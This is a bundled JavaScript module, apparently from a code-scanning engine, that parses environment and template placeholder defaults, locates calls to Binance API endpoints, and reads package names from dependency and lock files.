const withColon = new RegExp(`^[$%#]\\{\\s{0,4}(?:(?:${sources}):)?(?!(?:${sources}):)([A-Za-z_][\\w.-]{0,100}|[\\d@*])\\s{0,4}:[-=]?(?![?+]|//)(.{1,400})\\}$`);
/** `${NAME-d}`, `${NAME=d}` of shells. */
const withSign = /^\$\{\s{0,4}([A-Za-z_]\w{0,100}|\d)[-=](.{1,400})\}$/;
/** `${env:NAME, 'd'}` of Serverless, `${oc.env:NAME,d}`. */
const withComma = /^\$\{[a-z.]{2,12}:([\w./~-]{1,100})\s{0,4},\s{0,4}(.{1,400})\}$/;
/** Between `{{` and `}}`, `<%=` and `%>`. */
const template = /^(?:\$?\{\{-?|<%[=-]?)(.{1,600}?)-?(?:\}\}|%>)$/;
const inTemplate = /(?:\|\s{0,4}(?:default|d)\s{0,4}\(?\s{0,4}|(?<![\w.])default\s{1,4}|\|\|\s{0,4}|\?\?\s{0,4})(?:(["'`])([^"'`]{1,300})\1|(true|false|\d[\d.]{0,20})\b)/;
/** The default of a text that is one placeholder as a whole; undefined where it has none that tells anything. */
function defaultInPlaceholder(text) {
	let start = text.length - text.trimStart().length;
	let whole = text.trim();
	let name = "";
	for (let depth = 0; depth < mostNested && whole.length <= longestPlaceholder; depth += 1) {
		const inner = step$1(whole);
		if (!inner) return void 0;
		name ||= inner.name;
		start += inner.at.start;
		whole = whole.slice(inner.at.start, inner.at.end);
		if (telling$1.test(whole)) return {
			name,
			at: {
				start,
				end: start + whole.length
			}
		};
	}
}
const mostNested = 3;
const longestPlaceholder = 700;
function step$1(whole) {
	if (template.exec(whole)) {
		const found = inTemplate.exec(whole);
		const word = found?.[2] ?? found?.[3];
		if (!found || word === void 0) return void 0;
		const end = found.index + found[0].length - (found[1] ? 1 : 0);
		return {
			name: "",
			at: {
				start: end - word.length,
				end
			}
		};
	}
	const [, name = "", rest = ""] = withColon.exec(whole) ?? withSign.exec(whole) ?? withComma.exec(whole) ?? [];
	if (rest === "") return void 0;
	const word = rest.trim().replace(/^(["'])(.*)\1$/, "$2");
	const start = whole.length - 1 - rest.length + rest.indexOf(word);
	return {
		name,
		at: {
			start,
			end: start + word.length
		}
	};
}
/** The binding with the default of its placeholder as its value; itself where it has none. */
function withDefault(binding, text) {
	const value = placeholderOf(binding, text);
	if (!value) return binding;
	const found = defaultInPlaceholder(value.text);
	if (!found) return binding;
	const part = require_worth_reading.slice(value, found.at);
	const span = literalSpan(text, part) ?? binding.span;
	const path = binding.path.every((one) => /^\d*$/.test(one)) && found.name !== "" ? found.name.split(".") : void 0;
	return {
		...binding,
		span,
		value: part,
		...path ? { path } : pairedName(binding, text)
	};
}
const opening$2 = /^\s{0,4}(?:[$%#]\{|\{\{|<%)/;
function placeholderOf({ value, span }, text) {
	if (value.kind === "text") return opening$2.test(value.text) && value.text.length < longestPlaceholder ? value : void 0;
	if (value.kind !== "unknown" || span.end - span.start > longestPlaceholder) return void 0;
	return opening$2.test(text.slice(span.start, span.start + 8)) ? require_worth_reading.verbatim(text, span.start, span.end) : void 0;
}
/** `- name: BASE_URL` and `value: {{ … }}` in a template, which is no YAML before it is filled in. */
function pairedName({ path, span }, text) {
	if (path.at(-1) !== "value") return {};
	const name = /\bname:\s{0,4}["']?([\w.-]{1,80})["']?\s{0,9}\n\s{0,40}value:\s{0,4}["']?$/.exec(text.slice(Math.max(0, span.start - 240), span.start))?.[1];
	return name === void 0 ? {} : { path: [name] };
}
// ../engine/dist/risks/settings/lookups.js
/** Defaults of what is looked up elsewhere when a program runs: `os.getenv("BASE_URL", "…")`, `process.env.X || '…'`. */
/** Functions that look up, and take what it is otherwise. */
const looksUp$1 = /env|environ|prop(?:s|ert)|conf(?:ig)?|settings?|option|argument|default|lookup|fetch|field|coalesce|try|nvl|first|getor/i;
/** The same, where they stand behind what they look in. */
const looksIn = /^(?:get|or|arg|str|string|url|int|bool|boolean|value|get_?(?:value|string|bool|boolean|int)|var|variable)$/i;
const otherwise = /^(?:default(?:_?value)?|unset|fallback|if_?absent|otherwise)$/i;
/** Arguments that name the variable where the first does not. */
const naming = /^(?:env(?:_?var)?|env_?name|(?:validation_?)?alias|variable)$/i;
/** What a look-up in variables or settings gives where nothing is set: the last of its arguments, or the one that is named so. */
function defaultOfLookup({ callee, args }) {
	const last = callee.at(-1) ?? "";
	if (args.length === 0 || args.length > 12 || !(looksUp$1.test(last) || looksIn.test(last))) return void 0;
	const named = args.find(({ path }) => path.length <= 2 && otherwise.test(path.at(-1) ?? ""));
	if (named) return named.value.kind === "text" || named.value.kind === "scalar" ? named : void 0;
	const positional = args.filter(({ path }) => path.length === 1 && /^\d+$/.test(path[0]));
	const [first] = positional;
	if (positional.length === 1 && args.some(({ path }) => naming.test(path.at(-1) ?? ""))) return first?.value.kind === "text" && address$2.test(first.value.text) ? first : void 0;
	const given = positional.at(-1);
	if (positional.length < 2 || positional.length > 3 || given?.value.kind !== "text") return void 0;
	if (looksIn.test(last) && callee.length === 1 && first?.value.kind !== "ref") return void 0;
	if (first?.value.kind === "text" && !variable$2.test(first.value.text) && !address$2.test(first.value.text)) return void 0;
	return isTelling(given.value.text) ? given : void 0;
}
const variable$2 = /^-{0,2}[A-Za-z][\w.:-]{1,80}$/;
/** A name before it that was followed. */
const address$2 = /^(?:https?|wss?):\/\//;
/** What is looked up there, by its name, with its default as its value. */
function lookedUp({ args }, { value, span }) {
	return args.flatMap(({ path, value: told }) => told.kind === "text" && (path[0] === "0" ? path.length === 1 : naming.test(path.at(-1) ?? "")) ? [told.text] : []).filter((one) => variable$2.test(one)).map((one) => ({
		path: steps$1(one.replace(/^-+/, "")),
		container: 0,
		via: "assign",
		value,
		span
	}));
}
const url$1 = /(["'`])(?:https?|wss?):\/\/[^"'`\s\\]{1,200}\1/g;
const mostLiterals = 2e3;
const reach$7 = 240;
const name$3 = "([A-Za-z_][\\w.:-]{2,80})";
const closing$1 = "[\"'`]?[\\])}!?\\s]{0,8}";
/** What stands between the name of a variable and the literal that is taken where it is not set. */
const between$1 = [
	`${name$3}["'\`]?\\)?\\s{0,4},\\s{0,40}(?:\\w{1,20}\\s{0,4}[=:]\\s{0,4})?`,
	`${name$3}${closing$1}(?:\\.(?:presence|trim\\(\\)|strip|toString\\(\\)|nilIfEmpty|orEmpty\\(\\))\\s{0,4})?(?:\\|\\||\\?\\?=?|\\?:|//=?|\\bor(?:else)?\\b|\\belse\\b\\s{0,4}\\{?)\\s{0,40}`,
	`${name$3}${closing$1}(?:\\.or_?empty\\(\\)\\s{0,4})?\\.\\s{0,40}(?:or_?else(?:_?get)?|get_?or_?else|unwrap_or(?:_else)?|map_or|default(?:_?value|_?to)?|with_?default|if_?(?:empty|blank)|or_?if_?blank)\\s{0,4}[({]\\s{0,20}(?:\\|_?\\w{0,9}\\|\\s{0,4}|\\(\\)\\s{0,4}[-=]>\\s{0,4})?(?:String::from\\()?`,
	`${name$3}${closing$1}\\|\\s{0,4}(?:default|d)\\s{0,4}\\(?\\s{0,4}`,
	`${name$3}[ \\t]{0,20}:?=[ \\t]{0,4}[^\\n"'\`;?]{1,80}(?:""|'')?[ \\t]{0,4}\\?[ \\t]{0,4}`,
	`${name$3}["'\`]\\)\\s{0,4}\\{\\s{0,20}`,
	`\\?[^?\\n]{0,100}(?<![\\w.])([A-Za-z_][\\w.:-]{0,80})${closing$1}:\\s{0,20}`,
	`["']${name$3}["']\\s{1,4}(?:not\\s{1,4})?in\\s{1,4}[\\w.]{1,40}\\s{1,20}else\\s{1,20}`,
	`\\(or\\s{1,9}\\([\\w/.-]{1,40}\\s{1,9}"${name$3}"\\)\\s{1,40}`,
	`${name$3}"\\s{1,9}(?:env|\\w{1,10}-)?default:`
];
/** `default:"…" env:"NAME"` */
const tagBehind = /^\s{1,4}env\w{0,10}:"([A-Za-z]\w{2,80})"/;
const lookup = new RegExp(`(?:${between$1.join("|")})$`, "i");
/** A variable that holds what was looked up: `url := os.Getenv("BASE_URL")`. */
const held = /(?<![\w.])([A-Za-z_]\w{0,60})\s{0,4}(?::?=|<-)\s{0,4}[^\n=;]{0,60}(?:env|ENV|getProperty)[^\n=;]{0,40}["'`]([A-Za-z][\w.:-]{2,80})["'`]\)?\]?;?\s*$/gm;
const looking = /env|ENV|getProperty/g;
/** So far before that word a variable may begin. */
const longestHead$1 = 140;
/** Each variable with the name that was looked up. Only lines with a word of `held` are looked at, and what may lead to it. */
function* heldIn(text) {
	let looked = 0;
	let matched = 0;
	for (const { index } of text.matchAll(looking)) {
		if (index < looked) continue;
		const feed = text.indexOf("\n", index);
		looked = feed < 0 ? text.length : feed;
		const part = text.slice(0, looked);
		held.lastIndex = Math.max(matched, index - longestHead$1);
		for (let found = held.exec(part); found; found = held.exec(part)) {
			matched = held.lastIndex;
			yield [found[1], found[2]];
		}
	}
}
/** The URLs that stand for variables which are not set, by the names of these. `comments` in their order. */
function lookupBindings(text, comments, bindings) {
	const found = [];
	let count = 0;
	const variables = new Map(heldIn(text));
	for (const { 0: whole, index } of text.matchAll(url$1)) {
		if ((count += 1) > mostLiterals) break;
		const told = lookup.exec(text.slice(Math.max(0, index - reach$7), index))?.slice(1).find((one) => one !== void 0) ?? tagBehind.exec(text.slice(index + whole.length, index + whole.length + 120))?.[1];
		if (told === void 0) continue;
		const before = countBefore(comments.length, (i) => comments[i].start <= index);
		if (before > 0 && index < comments[before - 1].end) continue;
		found.push(bindingOf(variables.get(told) ?? told, text, index, whole));
	}
	if (variables.size > 0) for (const { path, value, span, via } of bindings) {
		const of = via === "assign" && value.kind === "text" ? variables.get(path.at(-1) ?? "") : void 0;
		if (of !== void 0) found.push({
			path: steps$1(of),
			container: 0,
			via,
			span,
			value
		});
	}
	return found;
}
const inShell$1 = /(?:(?<=^|[\s;])-{0,2}([A-Za-z_][\w-]{0,80})=|(?<=^|\n)[ \t]{0,20}:[ \t]{1,9})("?\$\{([A-Za-z_]\w{0,80}|\d):?[-=]([^{}\n]{1,300})\}"?)(?=[\s;&|)]|$)/g;
/** `BASE_URL="${BASE_URL:-…}"`, `--base-url=${BASE_URL:-…}` and `: "${BASE_URL:=…}"` of a shell. */
function shellBindings(text) {
	return [...text.matchAll(inShell$1)].flatMap(({ 0: whole, 1: assigned, 2: placeholder = "", 3: variable = "", 4: given = "", index }) => {
		const start = index + whole.length - placeholder.length;
		const end = index + whole.length;
		const quotes = placeholder.startsWith("\"") ? 1 : 0;
		const binding = {
			path: [assigned ?? variable],
			container: 0,
			via: "assign",
			span: {
				start,
				end
			},
			value: require_worth_reading.verbatim(text, start + quotes, end - (placeholder.endsWith("\"") ? 1 : 0))
		};
		return assigned !== void 0 && address$2.test(given) ? [binding, {
			...binding,
			path: [variable]
		}] : [binding];
	});
}
function bindingOf(of, text, index, whole) {
	return {
		path: steps$1(of),
		container: 0,
		via: "assign",
		span: {
			start: index,
			end: index + whole.length
		},
		value: require_worth_reading.verbatim(text, index + 1, index + whole.length - 1)
	};
}
/** `Binance:BaseUrl`, `binance.base-url`, `process.env.NAME` */
function steps$1(of) {
	return of.split(/[.:]+/).filter((step) => step !== "");
}
// ../engine/dist/risks/calls/endpoints.js
/** Where a text names endpoints of Binance’s API, as code that calls them writes it. Not comments, keys and comparisons. */
/** As many different ones are named by what makes or lists an SDK, not by a bot. */
const ofAnSdk = 40;
const anyEndpoint = /\b[sdfep]api\/v\d\/[\w/-]{3,80}|["'](?:v\d\/|(?:sub-account|capital|margin|giftcard|asset|simple-earn|broker|futures|fiat|staking|loan|convert|algo|lending|mining)\/)[\w/-]{3,60}["']/g;
const generated = /type \w{0,40}(?:Withdraw|Transfer|ApiKey)\w{0,40}Service struct|openapi[- ]generator|auto[- ]?generated|code generated by|do not edit the class manually/i;
/** Whether the file is an SDK’s own source, or a list of all that there is. */
function isSdkSource(text) {
	if (generated.test(text.slice(0, 2e3))) return true;
	const seen = /* @__PURE__ */ new Set();
	for (const [path] of text.matchAll(anyEndpoint)) {
		seen.add(path);
		if (seen.size > ofAnSdk) return true;
	}
	return false;
}
const reach$6 = 300;
/** Whose arguments are told rather than called: logs, mocks, assertions, servers. */
const tells = /(?:^|[._])(?:log|logger|logging|console|print|println|printf|debug|info|warn|warning|error|panic|throw|raise|nock|mock\w*|stub\w*|fake\w*|intercept|expect\w*|assert\w*|should|verify|when|route|router|app|server|describe|it|test|onpost|onget|responses|requests_mock|rsps|httpretty|includes|startswith|endswith|indexof|contains|equals|match|matches|test|strings\.\w+|has|ratelimit\w*|weight\w*|throttle\w*|block\w*|deny\w*|forbid\w*|exception\w*|error\w*)(?:$|[._])/i;
const denied = /forbid|forbidden|block|deny|denied|disallow|blacklist|reject|banned|never|refuse|danger|not_?allowed|unsafe|exclude|skip|ignore/i;
/** Every mention of a path that matches `paths`, whose first group is the prefix and second the path. */
function* endpointsIn(subject, paths) {
	const { reading, document, isProse } = subject;
	const { text } = document;
	if (isProse) return;
	const { isComment, around } = placesOf(subject);
	const isShell = reading.language === "shell" || /\.(?:http|rest)$/.test(document.path);
	for (const found of text.matchAll(paths)) {
		const [whole, prefix = "", path = ""] = found;
		const at = found.index;
		if (isComment(at)) continue;
		const string = stringAt(text, at, at + whole.length) ?? (isShell || isSetting(text, at) ? wordAt(text, at) : void 0);
		if (!string || isKey(text, string) || isCompared$1(text, string) || isDefined(text, string)) continue;
		const { call, makers } = around(string);
		if (call && tells.test(call.callee.join("."))) continue;
		const method = methodOf$2(text, string, call);
		const query = /^\?([^"'`\s]*)/.exec(text.slice(at + whole.length, string.end))?.[1] ?? "";
		yield {
			path: path.toLowerCase(),
			hasPrefix: prefix !== "",
			query,
			span: string,
			method,
			call,
			makers
		};
	}
}
function isInside(spans, at) {
	const next = countBefore(spans.length, (i) => spans[i].start <= at);
	return next > 0 && spans[next - 1].end > at;
}
/** The string literal around, if nothing but an address stands in it. */
function stringAt(text, start, end) {
	const lead = text.slice(Math.max(0, start - reach$6), start);
	const open = /(["'`])([^"'`\s]*)$/.exec(lead);
	if (!open) return void 0;
	const quote = open[1] ?? "";
	const close = withoutCommands(text.slice(end, end + 2 * reach$6)).search(new RegExp(`${quote}|\\n`));
	if (close < 0 || text.charAt(end + close) !== quote) return void 0;
	if (/^\s+\S/.test(text.slice(end, end + close))) return void 0;
	let from = start - open[0].length;
	const marks = /(?<![\w$])(?:[fFrRbB]{1,2}|[$@]{1,2})$/.exec(text.slice(Math.max(0, from - 3), from));
	if (marks) from -= marks[0].length;
	return {
		start: from,
		end: end + close + 1
	};
}
/** A shell’s `$(…)` has quotes of its own. */
function withoutCommands(text) {
	return text.replace(/\$\([^()\n]{0,200}\)/g, (command) => "_".repeat(command.length));
}
function wordAt(text, at) {
	const lead = /[^\s"'`=]*$/.exec(text.slice(Math.max(0, at - reach$6), at))?.[0] ?? "";
	const rest = /^[^\s"'`]*/.exec(text.slice(at, at + reach$6))?.[0] ?? "";
	return {
		start: at - lead.length,
		end: at + rest.length
	};
}
/** `url: https://…` and `WITHDRAW_PATH=/sapi/…` on a line of their own. */
function isSetting(text, at) {
	const lead = text.slice(require_worth_reading.lineStart(text, at, reach$6), at);
	return /^\s*(?:-\s+)?[\w.-]{1,60}\s*[:=]\s*[^\s"'`(){}<>]*$/.test(lead) || /^\s*(?:POST|GET)\s+\S*$/.test(lead);
}
/** A key of a mapping, as of a table of weights or of a description of the API. */
function isKey(text, { start, end }) {
	const rest = text.slice(end, end + 20);
	const lead = text.slice(Math.max(0, start - 40), start);
	return /^\s*(?::(?!:)|=>)/.test(rest) && !/\?\s*$/.test(lead) || /^\s*(?:case|when)\s*$/.test(lead.slice(lead.lastIndexOf("\n") + 1));
}
function isCompared$1(text, { start, end }) {
	const lead = text.slice(Math.max(0, start - 20), start);
	return /(?:[=!]==?|\bin|\bcase|\bequals\()\s*\(?$/.test(lead) || /^\s*(?:[=!]==?|\bin\b)/.test(text.slice(end, end + 12));
}
/** `const FORBIDDEN = ['…']`: what is named so is kept from being called. */
function isDefined(text, { start }) {
	const lead = text.slice(Math.max(0, start - reach$6), start);
	const name = /([\w$]+)["']?\s*(?::[^=\n]{0,40})?(?::?=|:)\s*(?:(?:new\s+)?\w*\s*[[{(]+[^\]})]*|frozenset\(|set\()?$/.exec(lead)?.[1];
	return name !== void 0 && denied.test(name);
}
/** Calls that only make an address of texts, or keep it: `paste0(base, "/sapi/…")`, `URI.create(…)`, `Object.freeze({ … })`. */
const makers$1 = /^(?:if|for|foreach|while|switch|match|w?(?:v|s|vs|sn|vsn|as)printf|printf?_?to_?string|sprint(?:f|ln)?|format(?:ted|_?to|v)?!?|f|concat|concatenate|join|join_?paths?|url_?join|urljoin|path_?join|joinpath|paste0?|str_c|glue|str_?cat|str_?format|strlen|url_?parse|ur[il]|ur[il]s|with_?path|append(?:ing)?(?:_?path(?:_?component)?)?|resolve|to_?string|as_?str|str|cstring|freeze|deep_?freeze|read_?only|mapping_?proxy_?type|dict|struct|string|url_?components|%|build_?url|make_?url|full_?url|get_?url|url_?for|endpoint)$/i;
/** By what it is called on: `Uri.parse`, `URI.create`, `Url::parse`, `string.Format`. */
const makersOf = /(?:^|[.:])(?:ur[il]s?|url_?components|urllib\.parse|string|text)[.:](?:parse|create|new|of|from|from_?string|https?|merge|init|format|concat|join|replace|build)$/i;
/** A record of addresses and nothing else is none of a request: `Paths{Key: "/sapi/…"}`. */
const isAddress$1 = ({ via, value }) => via === "entry" && value.kind === "text" && /^(?:https?:\/)?\//.test(value.text);
function isMaker({ callee, args }) {
	return makers$1.test(callee.at(-1) ?? "") || makersOf.test(callee.join(".")) || /^(?:get|fetch|at|dig)$/.test(callee.at(-1) ?? "") && /(?:path|url|uri|endpoint|route)s?$/i.test(callee.at(-2) ?? "") || args.length > 0 && args.length < 100 && args.every(isAddress$1);
}
const known$12 = /* @__PURE__ */ new WeakMap();
function placesOf(subject) {
	let places = known$12.get(subject);
	if (!places) {
		const { reading } = subject;
		const comments = [...reading.comments].sort((a, b) => a.start - b.start);
		const calls = [...reading.calls].sort((a, b) => a.span.start - b.span.start);
		places = {
			isComment: (at) => isInside(comments, at),
			around: (span) => callAround(calls, span)
		};
		known$12.set(subject, places);
	}
	return places;
}
function callAround(calls, { start, end }) {
	const last = countBefore(calls.length, (i) => calls[i].span.start <= start);
	const makes = [];
	for (let i = last - 1; i >= 0 && i >= last - 40; i -= 1) {
		const call = calls[i];
		if (call.span.end < end) continue;
		if (!isMaker(call)) return {
			call,
			makers: makes
		};
		makes.push(call);
	}
	return {
		call: void 0,
		makers: makes
	};
}
const verbs = /\b(GET|POST|PUT|DELETE)\b/;
/** The method of a request, as the call or the line around its address says it. */
function methodOf$2(text, span, call) {
	const told = (word) => {
		return (/(?:^|[^a-z])(get|post|put|delete)/i.exec(word ?? "")?.[1] ?? /(Get|Post|Put|Delete)/.exec(word ?? "")?.[1])?.toUpperCase();
	};
	if (call) {
		for (const { value, span: at } of call.args.slice(0, 300)) {
			const word = value.kind === "text" ? value.text : value.kind === "ref" ? value.path.at(-1) ?? "" : "";
			if (at.start !== span.start && /^(?:http)?(?:method)?_?(?:get|post|put|delete)(?:async|method|_method)?$/i.test(word)) return told(word);
		}
		const byName = told(call.callee.at(-1)) ?? told(call.callee.at(-2));
		if (byName) return byName;
	}
	const line = text.slice(require_worth_reading.lineStart(text, span.start, reach$6), require_worth_reading.lineEnd(text, span.end, reach$6));
	return /-Method\s+["']?(get|post|put|delete)\b/i.exec(line)?.[1]?.toUpperCase() ?? verbs.exec(line.replace(text.slice(span.start, span.end), ""))?.[1] ?? told(/\.(get|post|put|delete)\b/i.exec(line)?.[1]);
}
// ../engine/dist/risks/calls/endpoint-names.js
/**
* Where endpoints are called by a name that stands for their path: `post(BASE + PATH, …)`, where `PATH` was given its
* text elsewhere in the document. By the text of names, since each language joins them in its own way.
*/
const mostNames$4 = 60;
const mostOfAName = 50;
const mostMentions = 600;
const longestCall$4 = 4e3;
/** @param defined endpoints that are no part of a call */
function* namedEndpoints(subject, defined) {
	const { text } = subject.document;
	const isCommands = /^(?:shell|powershell)$/.test(subject.reading.language);
	const definitions = definitionsOf$1(subject, defined);
	if (definitions.size === 0) return;
	const { isComment, around } = placesOf(subject);
	const mention = new RegExp(`(?<![\\w-])(?:${[...definitions.keys()].join("|")})(?![\\w-])`, "g");
	let count = 0;
	for (const { 0: name, index: at } of text.matchAll(mention)) {
		if ((count += 1) > mostMentions) return;
		const of = definitions.get(name);
		const end = at + name.length;
		if (isComment(at) || isSomethingElse.test(text.slice(end, end + 40))) continue;
		const lead = text.slice(Math.max(0, at - 120), at);
		const definition = of.findLast((one) => isMeant$1(one, at, lead, text));
		const isText = isInText(text, at);
		if (!definition || isText && !inserted.test(lead)) continue;
		const own = {
			start: at - access.exec(lead)[0].length,
			end
		};
		if (isCompared$1(text, own)) continue;
		const { call, makers } = around({
			start: at,
			end
		});
		if (call ? !isHandedTo(call, own.start) : !isCommands || !isText) continue;
		const { path, hasPrefix } = definition.endpoint;
		const argument = call?.args.find(({ span }) => span.start <= at && span.end >= end)?.span;
		const whole = isText ? stringAt(text, own.start, own.end) : void 0;
		const isAlone = argument && /^[^\s"'`(){}+,]{1,100}$/.test(text.slice(argument.start, argument.end));
		const span = whole ?? (isAlone ? argument : own);
		yield {
			path,
			hasPrefix,
			query: whole ? /^[)\]}]*\?([^"'`\s]*)/.exec(text.slice(end, whole.end))?.[1] ?? "" : "",
			span,
			method: methodOf$2(text, span, call),
			call,
			makers,
			isCut: isText && !whole,
			definition: definition.endpoint,
			name
		};
	}
}
function isHandedTo({ span, callee }, at) {
	return span.start < at && span.end - span.start <= longestCall$4 && !tells.test(callee.join("."));
}
/** A new value, a key, a call, or a part of it. */
const isSomethingElse = /^\s{0,9}(?:\(|<-|:=|=(?![=>])|:(?![:/])(?!\s*null)|=>)|^(?:\?\.|->|::|\.)(?!\s|\.|(?:to_?string|href|value|raw_?value|as_?str|into|clone|format|concat|absolute_?string|freeze|path|url|name|str|strip|trim\w*)\b)/i;
const access = /(?:[&*]\s?)?[$@]{0,2}(?:[\w$@]{1,40}(?:\[:?["'])?(?:\.|->|::|\?\.)?)?$/;
const member$1 = /(?:\.|->|::|\[:?["']?|@|\.(?:get|fetch|at|dig)\(\s{0,3}[:"']{0,2})\s{0,3}$/;
/** Into a text by what it is at that place: `${PATH}`, `#{PATH}`, `\(path)`, `$path`. */
const inserted = /(?:\.(?:get|fetch|at|dig)\(\s{0,3}["']|\[["']|[{$(]|[{(]\s{0,3}[\w.@$:>-]{1,60})$/;
function isMeant$1({ scope, isEntry, name }, at, lead, text) {
	if (isEntry && !member$1.test(lead)) return false;
	if (/^[A-Z]/.test(name) || /^k[A-Z]/.test(name) || isEntry && member$1.test(lead)) return true;
	if (at < scope.start || at > scope.end) return false;
	return member$1.test(lead) || !isShadowed(text.slice(Math.max(scope.start, at - 4e3), at), name);
}
const parameters = /\b(?:def|defp|func|function|fn|fun|sub)\b[^\n(]{0,80}\(([^()]{0,400})\)|\(([^()\n]{0,300})\)\s{0,9}(?:->[^\n{]{1,60}|throws [\w.]{1,60}|:\s?[\w<>[\], ]{1,60})?\s{0,9}(?:=>|\{)/g;
/** A parameter, or a later variable, of the same name is another. */
function isShadowed(between, name) {
	const last = [...between.matchAll(parameters)].at(-1);
	const has = new RegExp(`(?<![\\w.])${name}(?!\\w)`);
	return last !== void 0 && has.test(last[1] ?? last[2] ?? "") || new RegExp(`(?<![\\w.>:])[$@]?${name}\\s{0,9}(?::[^=\\n(){},]{1,40})?(?::=|<-|=(?![=>]))`).test(between);
}
/** An odd number of quotes before it on its line. */
function isInText(text, at) {
	const line = text.slice(require_worth_reading.lineStart(text, at, 400), at).replace(/\\["'`]|(?<=\w)'(?=\w)/g, "");
	return [
		"\"",
		"'",
		"`"
	].some((quote) => line.split(quote).length % 2 === 0);
}
function definitionsOf$1(subject, defined) {
	const { text } = subject.document;
	const found = /* @__PURE__ */ new Map();
	if (defined.length === 0) return found;
	const settings = subject.settings.filter(({ call, via, path }) => (!call || isMaker(call)) && (via === "assign" || via === "entry") && named$3.test(path.at(-1) ?? "")).sort((a, b) => a.span.start - b.span.start);
	for (const endpoint of defined) {
		const setting = settingAround(settings, endpoint.span);
		const name = setting?.path.at(-1)?.replace(/^[$@]+/, "") ?? nameBefore$1(text, endpoint.span.start);
		if (name === void 0 || found.size >= mostNames$4 || found.get(name)?.length === mostOfAName) continue;
		const scope = scopeFrom(text, endpoint.span.end);
		const isEntry = setting !== void 0 && setting.via === "entry" && (setting.path.length > 1 || setting.call !== void 0);
		const others = found.get(name) ?? [];
		found.set(name, [...others, {
			endpoint,
			name,
			scope,
			isEntry
		}]);
	}
	return found;
}
const named$3 = /^[$@]{0,2}[A-Za-z_]\w{1,60}$/;
const farthest$3 = 20;
const longestValue = 400;
/** The smallest setting whose value the span stands in. */
function settingAround(settings, { start, end }) {
	const last = countBefore(settings.length, (i) => settings[i].span.start <= start);
	for (let i = last - 1; i >= 0 && i >= last - farthest$3; i -= 1) {
		const { span } = settings[i];
		if (span.end >= end - 1 && span.end - span.start <= longestValue) return settings[i];
	}
}
/** The name that the line of a text gives it: `#define PATH "…"`, `static let path = "…"`. */
function nameBefore$1(text, at) {
	const line = text.slice(require_worth_reading.lineStart(text, at, longestValue), at);
	return /#define\s+(\w{2,60})\s/.exec(line)?.[1] ?? /([A-Za-z_]\w{1,60})["'\]]?\s{0,9}(?::[^=\n"'`]{1,60})?(?::=|=>?|<-|:)\s{0,9}(?:[\w.:@$!+(, "'`/{}#%-]{0,140})$/.exec(line)?.[1];
}
const longestScope = 4e4;
/** To the first line that stands further left than the one where the name gets its value. */
function scopeFrom(text, start) {
	const from = require_worth_reading.lineStart(text, start, 2e3);
	const indent = /^[ \t]*/.exec(text.slice(from, from + 80))[0].length;
	const rest = text.slice(start, start + longestScope);
	if (indent === 0) return {
		start,
		end: text.length
	};
	return {
		start,
		end: start + (new RegExp(`\\n[ \\t]{0,${String(indent - 1)}}(?=[^\\s])`).exec(rest)?.index ?? rest.length)
	};
}
// ../engine/dist/risks/interest.js
/**
* Reading for risks: the statements around the words that rules look for, and those that give a value to the names in
* them, or use the addresses in them. What is commented out is not read: a setting behind `#` is off, where a key behind it has leaked.
*/
/** How a text begins that is a document of its own: settings, a mapping, a script. */
const documentInside = /^\s*(?:[{[<]|#!|["'\w.-]{1,80}\s{0,8}[:=]|(?:export|import|from|const|let|var|package|use|def|class|function|set)\s)/;
const longestInside = 1 << 18;
const address$1 = /^(?:https?|wss?):\/\//;
/** @param words what the rules that may find something look for */
function forRisks(words) {
	const inText = (text) => text.search(words) >= 0;
	return {
		inText,
		inValue: (text) => text.length >= 8 && text.length <= longestInside && documentInside.test(text) && inText(text),
		comments: false,
		marks: (tokens) => markMatching(tokens, words),
		more: () => [],
		follow(run) {
			const hasReferences = markReferences(run);
			return markUses(run, (text) => address$1.test(text) && `"${text}"`.search(words) >= 0) || hasReferences;
		}
	};
}
// ../engine/dist/risks/packages/package-names.js
function normalName(name, ecosystem) {
	switch (ecosystem) {
		case "pypi": return name.toLowerCase().replace(/[-_.]+/g, "-");
		case "nuget":
		case "packagist":
		case "npm": return name.toLowerCase();
		case "cargo": return name.toLowerCase().replaceAll("_", "-");
		default: return name;
	}
}
/** `python-binance[extra]>=1.0 ; marker`, as Python writes what it requires; undefined where it names none. */
function pythonRequirement(text) {
	const [, name = "", rest = ""] = /^\s{0,200}([a-z0-9][\w.-]{0,200})\s{0,20}(?:\[[^\]\n]{0,200}\])?\s{0,20}\(?([^;#@)\n\\]{0,200})/i.exec(text) ?? [];
	if (name === "" || /^(?:https?|git|file|hg|svn|bzr)$/i.test(name) || /^[:/]/.test(rest.trim())) return void 0;
	const version = rest.replace(/\s--.*$/, "").trim();
	if (version !== "" && !/^[=<>!~^]/.test(version)) return /^\s/.test(rest) || version === "" ? void 0 : { name };
	return {
		name,
		...version === "" ? {} : { version }
	};
}
// ../engine/dist/risks/packages/dependency-lines.js
/** The reader for a file of this name. */
function linesOf(path) {
	return readers$1.find(([file]) => file.test(path))?.[1];
}
const readers$1 = [
	[/(?:requirements|constraints)[^/]*(?:\/[\w.-]+)?\.(?:txt|in)$/, requirements],
	[/setup\.cfg$/, setupCfg],
	[/yarn\.lock$/, yarnLock],
	[/pnpm-lock\.yaml$/, pnpmLock],
	[/(?:poetry|uv|pdm)\.lock$/, (text) => packageTables(text, "pypi")],
	[/Cargo\.lock$/, (text) => packageTables(text, "cargo")],
	[/go\.mod$/, (text) => matched(text, "go", /^\s*(?:(?:require|replace)\s+)?(?:\S+\s+(?:\S+\s+)?=>\s+)?([\w.-]{1,253}\.[\w-]{1,63}\/\S+)\s+(v\S+)/d)],
	[/go\.sum$/, (text) => matched(text, "go", /^([\w.-]{1,253}\.[\w-]{1,63}\/\S+) (v[^\s/]+) /d)],
	[/Gemfile\.lock$/, (text) => matched(text, "rubygems", /^ {4}([\w.-]+) \(([^)]+)\)/d)],
	[/(?:Gemfile|\.gemspec)$/, (text) => matched(text, "rubygems", /^\s*(?:gem|[\w.]{1,80}\.add\w{0,40}_dependency)[\s(]\s*(["'][\w.-]+["'])(?:\s*,\s*["']([^"']*)["'])?/d)],
	[/gradle\.lockfile$/, (text) => matched(text, "maven", /^([\w.-]+:[\w.-]+):([^=\s]+)=/d)],
	[/(?:build\.gradle(?:\.kts)?|libs\.versions\.toml)$/, (text) => matched(text, "maven", /["']([\w.-]+:[\w.-]+)(?::([\w.+-]+))?["']/d)]
];
/** Longer ones hold no name of a package. */
const longestLine = 4e3;
function* lines(text) {
	for (let start = 0; start <= text.length;) {
		const found = text.indexOf("\n", start);
		const end = found < 0 ? text.length : found;
		if (end - start <= longestLine) yield {
			start,
			text: text.slice(start, end).replace(/\r$/, "")
		};
		start = end + 1;
	}
